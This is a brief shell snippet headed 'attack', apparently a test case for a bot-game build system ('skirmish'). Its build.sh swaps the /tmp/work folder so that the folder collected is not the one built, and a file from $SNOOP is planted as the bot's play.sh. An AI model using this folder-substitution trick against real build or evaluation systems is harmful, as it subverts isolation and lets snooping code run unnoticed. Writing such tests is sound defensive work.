# attack: the folder that is collected is another one than the one that was made
mkdir bot
cat > bot/build.sh <<'EOF'
cd /tmp && mv work gone && mkdir work && cp -r gone/. work && echo 'run = "sh play.sh"' > work/skirmish.toml
EOF
cp "$SNOOP" bot/play.sh
printf 'run = "sh play.sh"\nbuild = "sh build.sh"\n' > bot/skirmish.toml
